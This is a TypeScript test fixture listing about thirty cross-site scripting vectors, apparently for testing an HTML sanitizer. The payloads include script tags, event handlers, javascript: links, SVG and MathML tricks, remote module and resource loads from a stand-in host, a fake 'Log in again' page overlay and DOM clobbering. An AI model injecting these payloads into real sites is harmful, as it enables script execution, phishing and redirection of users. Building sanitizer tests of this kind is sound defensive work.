// Ways to make stored HTML act in Chromium, one of each kind; `ran()` notifies the test.

export const xssVectors: [name: string, html: string][] = [
  ['a script', '<script>ran()</script>'],
  ['a module from another site', '<script type="module">import "https://elsewhere.example/"</script>'],
  ['a script in svg', '<svg><script href="data:,ran()"/></svg>'],
  ['a script after a closed textarea', '</textarea><script>ran()</script>'],
  ['an event handler after slashes', '<img/src="data:,"/onerror="ran()">'],
  ['an event handler in entities', '<img src="data:," onerror="&#114;&#97;&#110;&#x28;&#x29;">'],
  ['an image of another site', '<img src="https://elsewhere.example/a.png" alt="A kite">'],
  ['an image of another site with backslashes', '<img src="\\\\elsewhere.example/">'],
  [
    'an image set of another site',
    '<picture><source srcset="https://elsewhere.example/"><img src="data:,"></picture>',
  ],
  ['svg that begins to animate', '<svg><animate onbegin="ran()" attributeName="x" dur="1s">'],
  [
    'svg that sets an address',
    '<svg><a><set attributeName="href" to="javascript:ran()"/><text y="20">Press</text></a></svg>',
  ],
  ['svg with xlink:href', '<svg><a xlink:href="javascript:ran()"><text y="20">Press</text></a></svg>'],
  ['html in svg', '<svg><foreignObject><img src="data:," onerror="ran()"></foreignObject></svg>'],
  ['a link in math', '<math><mtext><a href="javascript:ran()">Press</a></mtext></math>'],
  ['a javascript: link with a tab in it', '<a href="jav&#x09;ascript:ran()">Press</a>'],
  ['an iframe with its own html', '<iframe srcdoc="&lt;img src=data:, onerror=parent.ran()&gt;"></iframe>'],
  ['an object of another site', '<object data="https://elsewhere.example/"></object>'],
  ['a base address', '<base href="https://elsewhere.example/"><img src="x.png">'],
  ['a refresh', '<meta http-equiv="refresh" content="0; url=https://elsewhere.example/">'],
  ['a style sheet that imports', '<style>@import "https://elsewhere.example/";</style>'],
  [
    'a style that covers the page',
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Log in again</div>',
  ],
  [
    'a legacy attribute with an address',
    '<table background="https://elsewhere.example/"><tr><td>Words</td></tr></table>',
  ],
  ['a handler that needs no action', '<details open ontoggle="ran()"><summary>More</summary>Words</details>'],
  ['a handler on focus', '<input autofocus onfocus="ran()">'],
  ['a handler on hover', '<p onpointerover="ran()">Words</p>'],
  ['a media element', '<video><source onerror="ran()" src="data:,"></video>'],
  ['a button with an action', '<form><button formaction="javascript:ran()">Send</button></form>'],
  [
    'a template with a shadow root',
    '<div><template shadowrootmode="open"><img src="data:," onerror="ran()"></template></div>',
  ],
  ['an image that takes the place of a function', '<img name="querySelector">'],
  ['a link that takes the place of a global', '<a id="school" href="https://elsewhere.example/">Words</a>'],
]
